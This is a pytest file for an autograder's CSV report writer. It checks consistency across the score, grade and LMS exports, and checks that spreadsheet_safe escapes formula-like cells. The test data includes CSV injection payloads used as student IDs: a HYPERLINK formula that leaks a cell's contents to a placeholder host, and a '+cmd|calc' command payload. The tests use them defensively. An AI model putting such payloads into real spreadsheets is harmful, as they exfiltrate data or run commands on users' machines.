"""Do the CSVs say one thing one way, and does the spreadsheet file never hold a formula?"""
import csv

import pytest

from autograder.grade.gradebook import Recorded
from autograder.grade.report import spreadsheet_safe, write_outputs
from autograder.grade.results import FinalResult

A = "01_tokens_and_ids"
HOSTILE = '=HYPERLINK("http://example.invalid/?x="&A1,"click")'


def result(student: str) -> FinalResult:
    scores = [{"grade_id": gid, "points": pts, "max_points": 1.0, "status": "passed" if pts else "failed",
               "message": "", "mistake": ""}
              for gid, pts in (("test_encode", 0.0), ("test_encode_hidden", 1.0), ("test_decode", 1.0))]
    return FinalResult.from_json({"student_id": student, "assignment_id": A, "scores": scores, "problems": [],
                                  "code": {}})


@pytest.fixture(scope="module")
def written(tmp_path_factory):
    out = tmp_path_factory.mktemp("out")
    recorded = {("ada", A): Recorded(scores={"test_encode": 1.0}, overridden={"test_encode": 0.0},
                                     comments={"encode": "Off by one: ids start at 0."}, submitted_at="",
                                     seconds_late=0.0, late_penalty=0.0)}
    write_outputs(out, [result("ada"), result(HOSTILE), result("+cmd|calc"), result("-rf")], recorded)
    return {name: list(csv.DictReader((out / name).read_text().splitlines()))
            for name in ("scores.csv", "grades.csv", "lms.csv")}


def test_no_lms_cell_starts_a_formula(written):
    ids = [row["student_id"] for row in written["lms.csv"]]
    assert "'" + HOSTILE in ids and "'+cmd|calc" in ids and "'-rf" in ids and "ada" in ids
    assert not [c for row in written["lms.csv"] for c in row.values() if c[:1] in "=+-@\t\r"]


def test_numbers_and_plain_text_are_left_as_they_are():
    assert spreadsheet_safe("-1.5") == "-1.5" and spreadsheet_safe("ada") == "ada"
    assert spreadsheet_safe("@SUM(A1)") == "'@SUM(A1)" and spreadsheet_safe("\t=1") == "'\t=1"


def test_overridden_reads_yes_in_both_files(written):
    grade = next(r for r in written["grades.csv"] if r["student_id"] == "ada")
    encode = next(r for r in written["scores.csv"] if r["student_id"] == "ada" and r["grade_id"] == "test_encode")
    assert grade["overridden"] == encode["overridden"] == "yes"
    untouched = next(r for r in written["grades.csv"] if r["student_id"] == "-rf")
    assert untouched["overridden"] == ""


def test_an_exercise_comment_is_on_its_first_test_row_only(written):
    rows = {r["grade_id"]: r["comment"] for r in written["scores.csv"] if r["student_id"] == "ada"}
    assert rows == {"test_encode": "Off by one: ids start at 0.", "test_encode_hidden": "", "test_decode": ""}
